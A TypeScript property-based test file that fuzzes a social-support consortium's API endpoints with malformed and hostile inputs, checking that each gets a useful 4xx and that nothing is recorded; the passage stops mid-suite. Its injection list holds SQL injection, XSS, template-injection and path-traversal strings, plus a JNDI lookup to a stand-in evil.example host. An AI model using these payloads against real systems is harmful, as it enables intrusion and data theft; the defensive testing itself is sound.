import { CONTACT_KINDS, REFERRAL_STATUSES, SUPPORT_KINDS } from '@app/domain';
import fc from 'fast-check';
import { RunningConsortium } from '../apps/consortium/src/consortium-runner';
import { eventually } from './harness';
import { ApiResponse, api, startTestConsortium, tokenFor } from './harness/consortium';

/**
 * Every command endpoint of a partner service is validated: a property-based test throws at least 1,000
 * generated bad and hostile inputs at each one (wrong types, missing and unknown fields, huge strings,
 * unicode, injection attempts, unknown partners, dates in the future, bodies that are not JSON, hostile path
 * parameters, another partner's token) and each gets a 4xx with a useful problem detail, never a 500, and
 * nothing is appended to any partner's event store.
 *
 * Every generated input is wrong by construction: a valid body with at least one field made wrong, a body of
 * the wrong shape, or one that is not JSON at all. A valid input would rightly be recorded, so none is made.
 */

const RUNS = 1000;
const TIMEOUT = 240_000;
const DAY = 86_400_000;

type Partner = 'fresh-start' | 'spartans';
type Payload = { kind: 'none' } | { kind: 'json'; body: unknown } | { kind: 'raw'; raw: string };

/** One request: to which partner's service, signed in as whose worker, and what it sends. */
interface Attempt {
  at: Partner;
  as: Partner;
  method: 'POST' | 'PUT';
  path: string;
  payload: Payload;
}

/** A field left out of a body. */
const MISSING: unique symbol = Symbol('missing');

/** What a body is made of: each field's acceptable values, each field's wrong ones, the fields it needs. */
interface BodySpec {
  /** Values a field may keep while another is wrong: the valid value, or hostile content still allowed. */
  fine: Record<string, fc.Arbitrary<unknown>>;
  /** Values that are always wrong for the field (MISSING: left out, for a field that is required). */
  wrong: Record<string, fc.Arbitrary<unknown>>;
  required: string[];
  /** Whole bodies that are wrong only together (a rule across fields). */
  wrongTogether?: fc.Arbitrary<Record<string, unknown>>;
}

// ---------------------------------------------------------------------------------------------------------
// Hostile values

const INJECTIONS = [
  "'; DROP TABLE events; --",
  "' OR '1'='1",
  '"; DROP TABLE events; --',
  "Robert'); DROP TABLE students;--",
  '1; SELECT pg_sleep(10)',
  'SELECT * FROM pg_catalog.pg_user',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  'javascript:alert(1)',
  '{{constructor.constructor("return process")()}}',
  '$' + '{jndi:ldap://evil.example/a}',
  '#{7*7}',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%00',
  '\u0000',
  '\u0000\u0001\u0007\u001b[31m',
  '\r\nX-Injected: 1',
  '\u202eevil\u202c',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  '$where',
  '{"$gt": ""}',
  'NaN',
  'Infinity',
  '-1',
  'null',
  'undefined',
  'true',
  '[]',
  '{}',
  '😀👨‍👩‍👧‍👦🏳️‍🌈',
  'Z̴̢̛a̸͓l̷̙g̶͎o̵̦',
  'ﷺ𒐫𒈙⸻',
  '\ufeff\u200b\u200d',
];

const injection = fc.constantFrom(...INJECTIONS);
const unicode = fc.oneof(
  fc.string({ unit: 'grapheme', maxLength: 30 }),
  fc.string({ unit: 'binary', maxLength: 30 }),
);
/** Any short string, hostile or not. */
const hostileString = fc.oneof(injection, unicode, fc.string({ maxLength: 30 }));

/** Strings of 10k to 300k characters: above 256 kB the service answers 413, below it they must be refused. */
const huge = fc
  .tuple(
    fc.constantFrom('x', 'é', '字', '😀', '<script>', "'; DROP TABLE events; --"),
    fc.integer({ min: 10_000, max: 300_000 }),
  )
  .map(([s, n]) => s.repeat(Math.ceil(n / s.length)));

/** Strings longer than `max` even after trimming; now and then a huge one. */
const tooLong = (max: number) =>
  fc.oneof(
    {
      weight: 6,
      arbitrary: fc
        .tuple(fc.constantFrom('x', 'é', '字', '😀', '<b>'), fc.integer({ min: max + 1, max: max + 100 }))
        .map(([s, n]) => s.repeat(n)),
    },
    { weight: 1, arbitrary: huge },
  );

/** Nothing but whitespace, as String.prototype.trim sees it. */
const blank = fc.string({
  unit: fc.constantFrom(' ', '\t', '\n', '\r', '\u00a0', '\u2003', '\u3000', '\ufeff', '\u2028'),
  maxLength: 8,
});

const someObject = fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 1 }), { maxKeys: 3 });
const someArray = fc.array(fc.jsonValue({ maxDepth: 1 }), { maxLength: 3 });
const aNumber = fc.oneof(fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true }));

const notAString = fc.oneof(aNumber, fc.boolean(), fc.constant(null), someArray, someObject);
const notANumber = fc.oneof(
  hostileString,
  fc.constantFrom('60', '1e3', '0x10', ''),
  fc.boolean(),
  fc.constant(null),
  someArray,
  someObject,
);
const notAnArray = fc.oneof(hostileString, aNumber, fc.boolean(), fc.constant(null), someObject);
const notAnObject = fc.oneof(hostileString, aNumber, fc.boolean(), fc.constant(null), someArray);

/** A required text field made wrong. */
const wrongText = (max: number) => fc.oneof(notAString, blank, tooLong(max), fc.constant(MISSING));
/** An optional text field made wrong (left out would be allowed). */
const wrongOptionalText = (max: number) => fc.oneof(notAString, blank, tooLong(max));

/** Anything but one of `allowed`: other words, other cases, padding, injection, other types. */
const notOneOf = (allowed: readonly string[]) =>
  fc
    .oneof(
      hostileString,
      fc.constantFrom(...allowed).map((s) => s.toUpperCase()),
      fc.constantFrom(...allowed).map((s) => ` ${s}`),
      fc.constantFrom(...allowed).map((s) => `${s}\u0000`),
      notAString,
    )
    .filter((v) => typeof v !== 'string' || !allowed.includes(v));

const pad = (n: number, width = 2) => String(n).padStart(width, '0');

/** A real calendar day, written YYYY-MM-DD (an oracle of our own, not the service's). */
function isRealDay(s: string): boolean {
  const m = /^(\d{4})-(\d{2})-(\d{2})$/.exec(s);
  if (!m) return false;
  const [y, mo, d] = [Number(m[1]), Number(m[2]), Number(m[3])];
  const t = new Date(Date.UTC(y, mo - 1, d));
  return t.getUTCFullYear() === y && t.getUTCMonth() === mo - 1 && t.getUTCDate() === d;
}

/** Could be a valid date of birth (generously: up to tomorrow, to stay clear of time zones). */
const couldBeBirthday = (s: string) =>
  isRealDay(s) && s >= '1900-01-01' && s <= new Date(Date.now() + DAY).toISOString().slice(0, 10);

const wrongDateOfBirth = () =>
  fc.oneof(
    // In the future
    fc
      .date({ min: new Date(Date.now() + 2 * DAY), max: new Date('9999-12-31'), noInvalidDate: true })
      .map((d) => d.toISOString().slice(0, 10)),
    // Before 1900
    fc
      .date({ min: new Date('0001-01-01'), max: new Date('1899-12-31'), noInvalidDate: true })
      .map((d) => d.toISOString().slice(0, 10)),
    // Days that do not exist
    fc
      .tuple(
        fc.integer({ min: 1900, max: 2020 }),
        fc.integer({ min: 0, max: 99 }),
        fc.integer({ min: 0, max: 99 }),
      )
      .map(([y, m, d]) => `${y}-${pad(m)}-${pad(d)}`)
      .filter((s) => !isRealDay(s)),
    fc.constantFrom(
      '14/03/1991',
      '1991-3-14',
      '1991-03-14T00:00:00Z',
      '19910314',
      ' 1991-03-14',
      '1991-03-14 ',
      '1991-03-14\n',
      '１９９１-０３-１４',
      '٢٠٠٠-٠١-٠١',
      '+001991-03-14',
      'yesterday',
      '',
      '2023-02-29',
    ),
    hostileString.filter((s) => !couldBeBirthday(s)),
    notAString,
    fc.constant(MISSING),
  );

/** A moment written as the service wants it: ISO 8601 with Z or an offset. */
const moment = (min: Date, max: Date) =>
  fc.date({ min, max, noInvalidDate: true }).map((d) => d.toISOString());

/** Strings that are not a date and time with an offset (or not a real one). */
const notAMoment = fc.oneof(
  fc.constantFrom(
    '2024-02-30T10:00:00Z',
    '2023-13-01T10:00:00Z',
    '2024-01-01T25:00:00Z',
    '2024-01-01T10:61:00Z',
    '2024-01-01T23:59:60Z',
    '2024-01-01',
    '2024-01-01 10:00:00',
    '2024-01-01T10:00:00',
    '2024-01-01t10:00:00z',
    '01/02/2024 10:00',
    '+020000-01-01T00:00:00Z',
    'yesterday',
    'now',
    '',
    '1e12',
  ),
  // Offsets no clock has: well formed, but not a time anywhere
  fc
    .tuple(
      fc.date({ min: new Date('2000-01-01'), max: new Date(Date.now() - DAY), noInvalidDate: true }),
      fc.constantFrom('+', '-'),
      fc.integer({ min: 0, max: 99 }),
      fc.integer({ min: 0, max: 99 }),
    )
    .filter(([, , h, m]) => h >= 24 || m >= 60)
    .map(([d, sign, h, m]) => `${d.toISOString().slice(0, 19)}${sign}${pad(h)}:${pad(m)}`),
  hostileString.filter((s) => !/^\d{4}-\d{2}-\d{2}T/.test(s)),
);

const wrongOccurredAt = () =>
  fc.oneof(
    // In the future: nothing is recorded before it has happened
    moment(new Date(Date.now() + DAY), new Date('9999-12-31T23:59:59Z')),
    notAMoment,
    notAString,
    fc.constant(MISSING),
  );
const pastMoment = () => moment(new Date('2020-01-01'), new Date(Date.now() - 60_000));

/** Bodies that are not JSON at all, sent as application/json; some small, some huge, some deeply nested. */
function parsesAsJson(s: string): boolean {
  try {
    JSON.parse(s.replace(/^\ufeff/, ''));
    return true;
  } catch {
    return false;
  }
}
const notJson = fc
  .oneof(
    fc.constantFrom(
      '{"name": ',
      '{name: "x"}',
      "{'name': 'x'}",
      '{"a":1,}',
      '[1,2',
      'NaN',
      'undefined',
      '<?xml version="1.0"?><person><name>x</name></person>',
      '\u0000',
      '{"a":1}garbage',
      "'; DROP TABLE events; --",
      '<script>alert(1)</script>',
      '{"__proto__": {"isAdmin": true}',
      'name=Kayleigh&dateOfBirth=1991-03-14',
      '\ufeff{',
      '{"a":"\\x41"}',
      '{"a":"\\u12"}',
    ),
    fc.string({ minLength: 1, maxLength: 60, unit: 'binary' }),
    fc.string({ minLength: 1, maxLength: 60 }),
    fc.integer({ min: 1_000, max: 200_000 }).map((n) => '['.repeat(n)),
    fc.integer({ min: 1_000, max: 40_000 }).map((n) => '{"a":'.repeat(n)),
    huge.map((s) => `{"name":"${s}`),
  )
  .filter((s) => /\S/.test(s) && !parsesAsJson(s));

// ---------------------------------------------------------------------------------------------------------
// Bodies

const assemble = (fields: Record<string, unknown>): Record<string, unknown> =>
  Object.fromEntries(Object.entries(fields).filter(([, v]) => v !== MISSING));

/** A body with at least one field made wrong (the others fine, or now and then wrong too). */
function withWrongField(spec: BodySpec): fc.Arbitrary<Record<string, unknown>> {
  const fields = Object.keys(spec.fine);
  return fc
    .constantFrom(...Object.keys(spec.wrong))
    .chain((forced) =>
      fc.record(
        Object.fromEntries(
          fields.map((f) => [
            f,
            f === forced
              ? spec.wrong[f]
              : spec.wrong[f]
                ? fc.oneof({ weight: 5, arbitrary: spec.fine[f] }, { weight: 1, arbitrary: spec.wrong[f] })
                : spec.fine[f],
          ]),
        ),
      ),
    )
    .map(assemble);
}

/** A body with a field nobody asked for (the bodies are strict): prototype pollution among them. */
function withUnknownField(spec: BodySpec): fc.Arbitrary<Record<string, unknown>> {
  const known = Object.keys(spec.fine);
  const unknownKey = fc
    .oneof(fc.constantFrom('__proto__', 'constructor', 'id', 'personRef', 'admin', ''), hostileString)
    .filter((k) => !known.includes(k));
  return fc
    .tuple(fc.record(spec.fine), unknownKey, fc.jsonValue({ maxDepth: 2 }))
    .map(([fields, k, v]) => Object.fromEntries([...Object.entries(assemble(fields)), [k, v]]));
}

/** Not the object wanted: other types, arrays, objects lacking what is required. */
function wrongShape(required: string[]): fc.Arbitrary<unknown> {
  return fc
    .oneof(
      fc.anything({ maxDepth: 3, maxKeys: 5 }).filter((v) => v !== undefined),
      fc.constantFrom(null, 0, -1, true, false, '', 'x', [], {}),
      fc.array(fc.anything({ maxDepth: 1 }), { maxLength: 4 }),
      huge,
    )
    .filter(
      (v) =>
        !(
          typeof v === 'object' &&
          v !== null &&
          !Array.isArray(v) &&
          required.every((k) => Object.hasOwn(v as object, k))
        ),
    );
}

/** A body nested inside another: the field is wrong as a whole, or one of its own fields is. */
const wrongObject = (spec: BodySpec) =>
  fc.oneof(notAnObject, withWrongField(spec), withUnknownField(spec), wrongShape(spec.required));

const json = (body: unknown): Payload => ({ kind: 'json', body });
const raw = (s: string): Payload => ({ kind: 'raw', raw: s });

/** Every kind of bad body for one endpoint. */
function badPayload(spec: BodySpec): fc.Arbitrary<Payload> {
  return fc.oneof(
    { weight: 12, arbitrary: withWrongField(spec).map(json) },
    {
      weight: 2,
      arbitrary: spec.wrongTogether ? spec.wrongTogether.map(json) : withWrongField(spec).map(json),
    },
    { weight: 2, arbitrary: withUnknownField(spec).map(json) },
    { weight: 3, arbitrary: wrongShape(spec.required).map(json) },
    { weight: 2, arbitrary: notJson.map(raw) },
    { weight: 1, arbitrary: fc.constant<Payload>({ kind: 'none' }) },
  );
}

/** A fine body (for requests that must fail for other reasons: the path, or who asks). */
const fineBody = (spec: BodySpec) => fc.record(spec.fine).map((f) => json(assemble(f)));

// ---------------------------------------------------------------------------------------------------------
// Path parameters

const REF = /^[A-Z]{2,4}-[0-9A-HJKMNP-TV-Z]{10}$/;
const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i;

/** Path segments sent as they are, not encoded: dot segments and broken percent-encoding. */
const rawSegment = fc.constantFrom('%', '%zz', '%E0%A4%A', '%00', '%2e%2e', '%C0%AE%C0%AE', '%ff', '..', '.');
const segment = (s: string) => encodeURIComponent(s);

/** Anything that is not a person reference here, or one nobody has (a well-formed stranger). */
const wrongPersonRef = (known: string) =>
  fc.oneof(
    fc
      .stringMatching(REF)
      .filter((r) => r !== known)
      .map(segment),
    fc
      .constantFrom(
        known.toLowerCase(),
        `${known}0`,
        known.slice(0, -1),
        ` ${known}`,
        `${known}\u0000`,
        known.replace(/^NE/, 'ZZ'),
        'NE-IIIIIIIIII',
        'NE-OOOOOOOOOO',
        'NE-UUUUUUUUUU',
        `${known}' OR '1'='1`,
        `${known}/../../people`,
      )
      .map(segment),
    hostileString.filter((s) => !REF.test(s)).map(segment),
    fc.string({ minLength: 200, maxLength: 2_000 }).map(segment),
    rawSegment,
  );

/** Anything that is not an id of this service, or an id nobody has. */
const wrongId = (...known: string[]) =>
  fc.oneof(
    fc
      .uuid()
      .filter((u) => !known.includes(u))
      .map(segment),
    fc
      .constantFrom(
        '00000000-0000-0000-0000-000000000000',
        'ffffffff-ffff-ffff-ffff-ffffffffffff',
        ...known.flatMap((k) => [
          k.replaceAll('-', ''),
          `{${k}}`,
          `${k} `,
          k.slice(1),
          `${k}0`,
          `${k}' OR '1'='1`,
        ]),
      )
      .filter((s) => !known.includes(s))
      .map(segment),
    hostileString.filter((s) => !UUID.test(s)).map(segment),
    fc.string({ minLength: 200, maxLength: 2_000 }).map(segment),
    rawSegment,
  );

// ---------------------------------------------------------------------------------------------------------

/** Is the answer a useful refusal? A 4xx as RFC 9457 problem details that say what is wrong. */
function expectUsefulRefusal(a: Attempt, r: ApiResponse): void {
  const said = () =>
    `${a.method} ${a.path.slice(0, 200)} (as ${a.as} at ${a.at}) answered ${r.status} ${JSON.stringify(r.body).slice(0, 400)}`;
  if (r.status >= 500) throw new Error(`a server error, where a 4xx was due: ${said()}`);
  if (r.status < 400) throw new Error(`a bad input was taken: ${said()}`);
  if (r.status > 499) throw new Error(`not a 4xx: ${said()}`);
  if (!r.contentType.includes('application/problem+json'))
    throw new Error(`the refusal is not problem details (${r.contentType}): ${said()}`);
  if (typeof r.body.detail !== 'string' || r.body.detail.trim() === '')
    throw new Error(`the refusal does not say what is wrong: ${said()}`);
  if (r.body.status !== r.status) throw new Error(`the problem's status is not the response's: ${said()}`);
  if (/\n\s+at\s/.test(r.body.detail)) throw new Error(`the refusal shows a stack trace: ${said()}`);
  if (r.status === 400 && r.body.errors !== undefined) {
    const errors = r.body.errors as { field?: unknown; reason?: unknown }[];
    if (!Array.isArray(errors) || errors.length === 0) throw new Error(`empty field errors: ${said()}`);
    for (const e of errors) {
      if (typeof e.field !== 'string' || e.field === '' || typeof e.reason !== 'string' || e.reason === '')
        throw new Error(`a field error without a field and a reason: ${said()}`);
    }
  }
}

describe('every command endpoint refuses bad and hostile input with a useful 4xx, never a 500, and records nothing', () => {
  let c: RunningConsortium;
  const urls = {} as Record<Partner, string>;
  const tokens = {} as Record<Partner, string>;
  let personRef: string;
  let consentId: string;
  let referralId: string;
  const person = { name: 'Kayleigh Morrison', dateOfBirth: '1991-03-14' };

  beforeAll(async () => {
    c = await startTestConsortium('real');
    for (const p of ['fresh-start', 'spartans'] as const) {
      urls[p] = c.partners.get(p)!.url;
      tokens[p] = await tokenFor(c, p, 'worker');
    }
    const reg = await api(urls['fresh-start'], 'POST', '/people', tokens['fresh-start'], {
      ...person,
      contact: { phone: '+44 131 555 0199', address: '12 Pennywell Road, Edinburgh' },
      whatMatters: 'Keeping my flat and my son settling at his new school',
    });
    expect(reg.status).toBe(201);
    personRef = reg.body.personRef as string;
    const consent = await api(
      urls['fresh-start'],
      'POST',
      `/people/${personRef}/consents`,
      tokens['fresh-start'],
      {
        partners: ['spartans'],
        purposes: ['support', 'referral'],
      },
    );
    expect(consent.status).toBe(201);
    consentId = consent.body.consentId as string;
    const referral = await api(urls['fresh-start'], 'POST', '/referrals', tokens['fresh-start'], {
      personRef,
      toOrganisation: 'spartans',
      reason: 'Wants to get back into football and meet people',
    });
    expect(referral.status).toBe(201);
    referralId = referral.body.referralId as string;
    // Spartans takes the referral into its own store from the backbone: wait, so that counts stay still.
    await eventually(async () => {
      const held = await c.partners.get('spartans')!.store.readStream(`referral-${referralId}`);
      return held.length > 0 ? held : undefined;
    }, 'Spartans to take in the referral');
  }, 60_000);
  afterAll(() => c?.stop());

  // Rows in the store, not the log: the log holds back events while any older transaction in the database is
  // in flight (its gap safety), and another suite's transaction would make a count move late.
  async function eventCounts(): Promise<Record<Partner, number>> {
    const count = async (p: Partner) =>
      (
        await c.projection.dataSource.query(
          `SELECT count(*)::int AS n FROM ${c.schemaOf(`partner_${p}`)}.events`,
        )
      )[0].n as number;
    return { 'fresh-start': await count('fresh-start'), spartans: await count('spartans') };
  }

  function send(a: Attempt): Promise<ApiResponse> {
    const { payload } = a;
    return api(
      urls[a.at],
      a.method,
      a.path,
      tokens[a.as],
      payload.kind === 'json' ? payload.body : undefined,
      payload.kind === 'raw' ? payload.raw : undefined,
    );
  }

  /** Throws every attempt at the service; each must be a useful refusal, and no store may grow. */
  async function everyOneRefused(
    attempts: fc.Arbitrary<Attempt>,
    check: (a: Attempt, r: ApiResponse) => void = () => {},
  ): Promise<void> {
    const before = await eventCounts();
    let tried = 0;
    const refused = await fc
      .assert(
        fc.asyncProperty(attempts, async (a) => {
          tried++;
          const r = await send(a);
          expectUsefulRefusal(a, r);
          check(a, r);
        }),
        { numRuns: RUNS },
      )
      .then(
        () => null,
        (e: unknown) => e,
      );
    // Nothing appended, whether or not every answer was right
    const after = await eventCounts();
    if (refused) {
      if (JSON.stringify(after) !== JSON.stringify(before) && refused instanceof Error)
        refused.message += `\n\nAnd events were appended: before ${JSON.stringify(before)}, after ${JSON.stringify(after)}`;
      throw refused;
    }
    expect(tried).toBeGreaterThanOrEqual(RUNS);
    expect(after).toEqual(before);
  }

  /** Attempts at a Fresh Start endpoint: bad bodies at a good path, any body at a bad path, another partner's worker. */
  function atFreshStart(
    method: 'POST' | 'PUT',
    path: (ref: string) => string,
    spec: BodySpec,
    options: { hostileRefs?: boolean } = {},
  ): fc.Arbitrary<Attempt> {
    const attempt = (p: string, payload: Payload, as: Partner = 'fresh-start'): Attempt => ({
      at: 'fresh-start',
      as,
      method,
      path: p,
      payload,
    });
    const good = segment(personRef);
    const choices: fc.WeightedArbitrary<Attempt>[] = [
      { weight: 20, arbitrary: badPayload(spec).map((b) => attempt(path(good), b)) },
      // Signed in for another partner: nobody writes to another partner's records
      { weight: 1, arbitrary: fineBody(spec).map((b) => attempt(path(good), b, 'spartans')) },
    ];
    if (options.hostileRefs) {
      choices.push(
        {
          weight: 4,
          arbitrary: fc.tuple(wrongPersonRef(personRef), fineBody(spec)).map(([r, b]) => attempt(path(r), b)),
        },
        {
          weight: 2,
          arbitrary: fc
            .tuple(wrongPersonRef(personRef), badPayload(spec))
            .map(([r, b]) => attempt(path(r), b)),
        },
      );
    }
    return fc.oneof(...choices);
  }

  // The bodies, field by field -------------------------------------------------------------------------

  const nameSpec = (): BodySpec['fine'] => ({
    name: fc.oneof(
      { weight: 3, arbitrary: fc.constant(person.name) },
      injection,
      fc.string({ unit: 'grapheme', minLength: 1, maxLength: 40 }),
    ),
    dateOfBirth: fc.oneof(fc.constant(person.dateOfBirth), fc.constantFrom('1900-01-01', '2000-02-29')),
  });
  const identifiers = (): BodySpec => ({
    fine: nameSpec(),
    wrong: { name: wrongText(200), dateOfBirth: wrongDateOfBirth() },
    required: ['name', 'dateOfBirth'],
  });

  const contactSpec: BodySpec = {
    fine: {
      phone: fc.oneof(
        fc.constant(MISSING),
        fc.constantFrom('+44 131 555 0100', '0131 555 0100', '(0131) 555-0100'),
      ),
      email: fc.oneof(
        fc.constant(MISSING),
        fc.constantFrom('kayleigh@example.org', "o'neil+tag@example.co.uk"),
      ),
      address: fc.oneof(fc.constant(MISSING), injection, fc.string({ unit: 'grapheme', maxLength: 60 })),
    },
    wrong: {
      phone: fc.oneof(
        fc.constantFrom(
          '12345',
          '+44 131 555 0100 ext 12',
          'phone',
          '+4413155501001234567890',
          '++44 131 555 0100',
          '',
        ),
        hostileString.filter((s) => !/^\+?[0-9 ()-]{6,20}$/.test(s)),
        notAString,
      ),
      email: fc.oneof(
        fc.constantFrom(
          'kayleigh',
          'kayleigh@',
          '@example.org',
          'a@b',
          'a b@example.org',
          'a@@example.org',
          '',
        ),
        hostileString.filter((s) => !s.includes('@')),
        tooLong(254),
        notAString,
      ),
      address: fc.oneof(tooLong(500), notAString),
    },
    required: [],
  };

  const registration = (): BodySpec => ({
    fine: {
      ...nameSpec(),
      contact: fc.oneof(fc.constant(MISSING), fc.record(contactSpec.fine).map(assemble)),
      whatMatters: fc.oneof(
        { weight: 3, arbitrary: fc.constant('Keeping my flat') },
        injection,
        fc.string({ unit: 'grapheme', minLength: 1, maxLength: 60 }),
      ),
    },
    wrong: {
      name: wrongText(200),
      dateOfBirth: wrongDateOfBirth(),
      contact: wrongObject(contactSpec),
      whatMatters: wrongText(5000),
    },
    required: ['name', 'dateOfBirth', 'whatMatters'],
  });

  const wordsField = (words: string) =>
    fc.oneof(
      { weight: 3, arbitrary: fc.constant(words) },
      injection,
      fc.string({ unit: 'grapheme', minLength: 1, maxLength: 60 }),
    );

  const contactRecord = (): BodySpec => ({
    fine: {
      kind: fc.constantFrom(...CONTACT_KINDS),
      occurredAt: pastMoment(),
      durationMinutes: fc.integer({ min: 0, max: 1440 }),
      notes: fc.oneof(fc.constant(MISSING), wordsField('talked about the rent arrears')),
    },
    wrong: {
      kind: fc.oneof(notOneOf(CONTACT_KINDS), fc.constant(MISSING)),
      occurredAt: wrongOccurredAt(),
      durationMinutes: fc.oneof(
        notANumber,
        fc.integer({ max: -1 }),
        fc.integer({ min: 1441 }),
        fc.double({ min: 0.001, max: 1439.999, noNaN: true }).filter((n) => !Number.isInteger(n)),
        fc.constant(MISSING),
      ),
      notes: wrongOptionalText(5000),
    },
    required: ['kind', 'occurredAt', 'durationMinutes'],
  });

  const supportRecord = (): BodySpec => ({
    fine: {
      kind: fc.constantFrom(...SUPPORT_KINDS),
      occurredAt: pastMoment(),
      costPounds: fc.oneof(fc.constant(MISSING), fc.double({ min: 0, max: 100_000, noNaN: true })),
      description: fc.oneof(fc.constant(MISSING), wordsField('a food bank voucher')),
    },
    wrong: {
      kind: fc.oneof(notOneOf(SUPPORT_KINDS), fc.constant(MISSING)),
      occurredAt: wrongOccurredAt(),
      costPounds: fc.oneof(
        notANumber,
        fc.double({ max: -0.001, noNaN: true, noDefaultInfinity: true }),
        fc.double({ min: 100_000.001, noNaN: true, noDefaultInfinity: true }),
      ),
      description: wrongOptionalText(2000),
    },
    required: ['kind', 'occurredAt'],
  });

  const lifeSystem = (): BodySpec => {
    const themes = c.consortium.themes;
    const actor: BodySpec = {
      fine: {
        name: wordsField('Gran'),
        relationship: wordsField('grandmother'),
        helps: fc.oneof(fc.constant(MISSING), fc.boolean()),
      },
      wrong: {
        name: wrongText(200),
        relationship: wrongText(200),
        helps: fc.oneof(hostileString, aNumber, fc.constant(null), someObject),
      },
      required: ['name', 'relationship'],
    };
    const factor: BodySpec = {
      fine: {
        factor: wordsField('rent arrears'),
        theme: fc.oneof(fc.constant(MISSING), fc.constantFrom(...themes)),
      },
      wrong: { factor: wrongText(200), theme: notOneOf(themes) },
      required: ['factor'],
    };
    /** An array of fine items with one wrong item slipped in, or too many items. */
    const wrongArray = (item: fc.Arbitrary<unknown>, wrongItem: fc.Arbitrary<unknown>, max: number) =>
      fc.oneof(
        notAnArray,
        fc.tuple(fc.array(item, { maxLength: 3 }), wrongItem, fc.nat()).map(([items, bad, i]) => {
          const at = items.length ? i % (items.length + 1) : 0;
          return [...items.slice(0, at), bad, ...items.slice(at)];
        }),
        fc.array(item, { minLength: max + 1, maxLength: max + 5 }),
      );
    const fineActor = fc.record(actor.fine).map(assemble);
    const fineFactor = fc.record(factor.fine).map(assemble);
    return {
      fine: {
        occurredAt: pastMoment(),
        actors: fc.array(fineActor, { maxLength: 3 }),
        factors: fc.array(fineFactor, { maxLength: 3 }),
        relationships: fc.oneof(
          fc.constant(MISSING),
          fc.array(wordsField('Gran helps with the rent'), { maxLength: 3 }),
        ),
        themes: fc.oneof(fc.constant(MISSING), fc.subarray([...themes])),
      },
      wrong: {
        occurredAt: wrongOccurredAt(),
        actors: fc.oneof(wrongArray(fineActor, wrongObject(actor), 50), fc.constant(MISSING)),
        factors: fc.oneof(wrongArray(fineFactor, wrongObject(factor), 50), fc.constant(MISSING)),
        relationships: wrongArray(
          wordsField('Gran helps'),
          wrongText(500).filter((v) => v !== MISSING),
          50,
        ),
        themes: wrongArray(fc.constantFrom(...themes), notOneOf(themes), themes.length),
      },
      required: ['occurredAt', 'actors', 'factors'],
    };
  };

  const reflection = (): BodySpec => {
    const measure: BodySpec = {
      fine: {
        measure: wordsField('mood'),
        value: fc.constant(5),
        min: fc.constant(0),
        max: fc.constant(10),
      },
      wrong: {
        measure: wrongText(100),
        value: fc.oneof(notANumber, fc.constantFrom(-1, 11, 10.000001), fc.constant(MISSING)),
        min: fc.oneof(notANumber, fc.constantFrom(5.5, 6, 10, 11), fc.constant(MISSING)),
        max: fc.oneof(notANumber, fc.constantFrom(4.9, 0, -10), fc.constant(MISSING)),
      },
      required: ['measure', 'value', 'min', 'max'],
    };
    const offScale = fc
      .record({ measure: fc.constant('mood'), value: fc.integer(), min: fc.integer(), max: fc.integer() })
      .filter((m) => !(m.min < m.max && m.value >= m.min && m.value <= m.max));
    const fineMeasure = fc.record(measure.fine).map(assemble);
    return {
      fine: {
        occurredAt: pastMoment(),
        text: wordsField('I felt listened to'),
        measures: fc.oneof(fc.constant(MISSING), fc.array(fineMeasure, { maxLength: 3 })),
      },
      wrong: {
        occurredAt: wrongOccurredAt(),
        text: wrongOptionalText(5000),
        measures: fc.oneof(
          notAnArray,
          fc
            .tuple(fc.array(fineMeasure, { maxLength: 2 }), fc.oneof(wrongObject(measure), offScale))
            .map(([ms, m]) => [...ms, m]),
          fc.array(fineMeasure, { minLength: 21, maxLength: 25 }),
        ),
      },
      required: ['occurredAt'],
      // A reflection with neither words nor a measure says nothing
      wrongTogether: fc
        .tuple(pastMoment(), fc.constantFrom(MISSING, []))
        .map(([occurredAt, measures]) => assemble({ occurredAt, measures })),
    };
  };

  const outcome = (): BodySpec => ({
    fine: { occurredAt: pastMoment(), words: wordsField('I kept my flat') },
    wrong: { occurredAt: wrongOccurredAt(), words: wrongText(5000) },
    required: ['occurredAt', 'words'],
  });

  const whatMatters = (): BodySpec => ({
    fine: { whatMatters: wordsField('Getting back into football') },
    wrong: { whatMatters: wrongText(5000) },
    required: ['whatMatters'],
  });

  const consent = (): BodySpec => {
    const partners = c.consortium.partners.map((p) => p.id);
    const purposes = c.consortium.consentPurposes;
    // Unknown partners: statutory bodies are not partners, and nor is anyone made up
    const unknownPartner = fc
      .oneof(
        fc.constantFrom(
          ...c.consortium.statutoryBodies.map((b) => b.id),
          'Spartans',
          'spartans ',
          'evil-corp',
        ),
        hostileString,
      )
      .filter((p) => !partners.includes(p));
    return {
      fine: {
        partners: fc.subarray(partners, { minLength: 1 }),
        purposes: fc.subarray([...purposes], { minLength: 1 }),
        validFrom: fc.oneof(
          fc.constant(MISSING),
          moment(new Date(Date.now() - 365 * DAY), new Date(Date.now() + 5 * 365 * DAY)),
        ),
        validUntil: fc.oneof(fc.constant(MISSING), fc.constant(null)),
      },
      wrong: {
        partners: fc.oneof(
          notAnArray,
          fc.constant([]),
          fc.tuple(fc.subarray(partners), unknownPartner).map(([ps, p]) => [...ps, p]),
          fc.tuple(fc.subarray(partners), notAString).map(([ps, p]) => [p, ...ps]),
          fc.array(fc.constantFrom(...partners), {
            minLength: partners.length + 1,
            maxLength: partners.length + 5,
          }),
          fc.constant(MISSING),
        ),
        purposes: fc.oneof(
          notAnArray,
          fc.constant([]),
          fc.tuple(fc.subarray([...purposes]), notOneOf(purposes)).map(([ps, p]) => [...ps, p]),
          fc.constant(MISSING),
        ),
        validFrom: fc.oneof(
          notAMoment,
          fc.oneof(aNumber, fc.boolean(), fc.constant(null), someArray, someObject),
        ),
        validUntil: fc.oneof(
          notAMoment,
          // Ending before it starts (validFrom is within the last year, or now)
          moment(new Date('1970-01-01'), new Date(Date.now() - 366 * DAY)),
          fc.oneof(aNumber, fc.boolean(), someArray, someObject),
        ),
      },
      required: ['partners', 'purposes'],
      wrongTogether: fc
        .tuple(
          moment(new Date('2000-01-01'), new Date('2099-12-31')),
          fc.integer({ min: 0, max: 10 * 365 * DAY }),
        )
        .map(([from, back]) => ({
          partners: ['spartans'],
          purposes: ['support'],
          validFrom: from,
          validUntil: new Date(Date.parse(from) - back).toISOString(),
        })),
    };
  };

